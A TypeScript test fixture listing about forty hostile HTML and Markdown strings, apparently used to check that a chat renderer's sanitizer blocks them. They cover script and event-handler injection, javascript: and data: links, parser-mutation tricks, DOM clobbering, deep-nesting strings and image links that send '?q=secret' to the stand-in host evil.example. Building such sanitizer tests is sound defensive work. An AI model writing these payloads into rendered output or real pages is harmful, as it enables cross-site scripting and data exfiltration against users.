/** Texts that a model could be made to write, and that do harm when they are parsed as HTML. */

/** The function that the texts try to call. It exists only in tests. */
const RUN = "trap()";
/** URLs that must never be requested: on another host, and on a host that the page may use. */
const [ELSEWHERE, HERE] = ["https://evil.example/evil", "/evil"];

/** The texts by what they try. */
export const HOSTILE_ANSWERS: Record<string, string> = {
  "scripts": `<script>${RUN}</script><script src="${HERE}.js"></script><ScRiPt>${RUN}</sCrIpT >`,
  "a script as a module": `<script type="module">import "${HERE}.js"; ${RUN}</script>`,
  "handlers of images": `<img src=x onerror=${RUN}><img src="${HERE}.png" onload="${RUN}">`,
  "handlers without spaces": `<img/src=x/onerror=${RUN}><svg/onload=${RUN}><body/onload=${RUN}>`,
  "handlers that need no load":
    `<details open ontoggle=${RUN}><marquee onstart=${RUN}><input autofocus onfocus=${RUN}><video><source onerror=${RUN}></video>`,
  "animations":
    `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart=${RUN}>b</b>`,
  "svg": `<svg><script>${RUN}</script><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  "svg with a link":
    `<svg><a xlink:href="javascript:${RUN}"><text y="20">here</text></a><use href="${HERE}.svg#x"></use></svg>`,
  "foreign content":
    `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg><math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  "frames":
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe><iframe src="javascript:parent.${RUN}"></iframe><iframe src="${ELSEWHERE}"></iframe>`,
  "plugins": `<object data="${HERE}.html"></object><embed src="javascript:${RUN}"><applet code=x>`,
  "a base": `<base href="${ELSEWHERE}/"><a href="relative">relative</a>`,
  "a refresh":
    `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}"><meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  "a policy": `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  "forms":
    `<form action="${ELSEWHERE}" id=f><input name=password><button formaction="javascript:${RUN}">Go</button></form><button form=f>Go</button><isindex action=${ELSEWHERE}>`,
  "styles":
    `<style>@import "${ELSEWHERE}.css"; body { display: none; background: url(${ELSEWHERE}) }</style><p style="position:fixed;inset:0;background:url(${ELSEWHERE})">over everything</p>`,
  "linked things":
    `<link rel=stylesheet href="${ELSEWHERE}.css"><link rel=prefetch href="${HERE}"><link rel=preload as=image href="${HERE}.png"><link rel=dns-prefetch href="//evil.example"><link rel=manifest href="${HERE}">`,
  "images from elsewhere":
    `<img src="${ELSEWHERE}.png"><img srcset="${HERE}.png 1x, ${ELSEWHERE}.png 2x"><picture><source srcset="${HERE}.webp"><img src=x></picture><video poster="${HERE}.png" src="${HERE}.mp4"></video><audio src="${HERE}.mp3" autoplay></audio><table background="${HERE}.png"><tr><td>x</td></tr></table>`,
  "images from elsewhere, in Markdown":
    `![a pixel](${ELSEWHERE}.png?q=secret) ![here](${HERE}.png) ![][ref] [![linked](${HERE}.png)](${ELSEWHERE})\n\n[ref]: ${ELSEWHERE}.png "title"`,
  "images of other kinds":
    `![x](data:text/html,<script>${RUN}</script>) ![x](data:image/svg+xml;base64,PHN2Zy8+) ![x](javascript:${RUN}) ![x](blob:null/1) ![x](file:///etc/passwd)`,
  "links that run":
    `[a](javascript:${RUN}) [b](JaVaScRiPt:${RUN}) [c](<java\tscript:${RUN}>) [d](javascript&colon;${RUN}) [e](&#106;avascript:${RUN}) [f](\u0001javascript:${RUN}) [g](vbscript:${RUN}) [h](<data:text/html,<script>${RUN}</script>>) [i](data:text/html;base64,PHNjcmlwdD50cmFwKCk8L3NjcmlwdD4=)`,
  "links that run, by reference":
    `[a][1] [b][2] <javascript:${RUN}> <JAVASCRIPT:${RUN}>\n\n[1]: javascript:${RUN}\n[2]: <javascript&#58;${RUN}>`,
  "links that run, in HTML":
    `<a href="javascript:${RUN}">a</a><a href="jav&#x09;ascript:${RUN}">b</a><a href=" &#14;  javascript:${RUN}">c</a><a href="&#x6A&#x61&#x76&#x61script:${RUN}">d</a><map><area shape=rect coords=0,0,999,999 href="javascript:${RUN}"></map>`,
  "a link with quotes in it":
    `[a](https://example.org/"onmouseover="${RUN}) [b](https://example.org "x\\" onfocus=${RUN} autofocus=\\"") https://example.org/?"onclick=${RUN} <https://example.org/"onclick="${RUN}>`,
  "links that take the page along":
    `[a](https://example.org) <a href="https://example.org" target=_blank>b</a> [c](//evil.example/evil) [d](mailto:a@example.org)`,
  "names that clobber":
    `<form id=turns><input name=textContent><img name=getElementById><a id=defaultView><a id=defaultView name=x></form><img id=chat><div id=announcement></div>`,
  "unfinished tags": `<img src=x onerror=${RUN} <script>${RUN} <a href="javascript:${RUN}`,
  "broken comments":
    `<!--><img src=x onerror=${RUN}>--> <!--! --!><img src=x onerror=${RUN}> <![CDATA[<img src=x onerror=${RUN}>]]>`,
  "mutations":
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;"></style></mglyph></table></mtext></math>`,
  "more mutations":
    `<svg></p><style><a id="</style><img src=x onerror=${RUN}>"></svg><noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><template><script>${RUN}</script></template><textarea></textarea><img src=x onerror=${RUN}></textarea><title></title><img src=x onerror=${RUN}></title>`,
  "code that ends early":
    `\`\`\`html"><img src=x onerror=${RUN}>\n</code></pre><img src=x onerror=${RUN}><script>${RUN}</script>\n\`\`\`\n\n\`</code><img src=x onerror=${RUN}>\``,
  "headings and cells":
    `# <img src=x onerror=${RUN}>\n\n| <script>${RUN}</script> | b |\n|:--|--:|\n| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |\n\n- [ ] <input autofocus onfocus=${RUN}>\n\n> <iframe src="${HERE}"></iframe>`,
  "a table with a hostile alignment": `| a |\n|:-"onclick=${RUN}:|\n| b |`,
  "text that runs backwards":
    `\u202e)(part:tpircsavaj\u202c [\u202egro.elpmaxe\u202c](javascript:${RUN})`,
  "null and half characters":
    `<scr\u0000ipt>${RUN}</scr\u0000ipt> \ud800 <img src=x onerror\u0000=${RUN}>`,
  "deep lists": "- ".repeat(3_000) + RUN,
  "deep quotes": ">".repeat(10_000) + RUN,
  "deep brackets": "[".repeat(5_000) + "](javascript:trap())".repeat(100),
  "deep emphasis": "*a **b ".repeat(2_000),
};
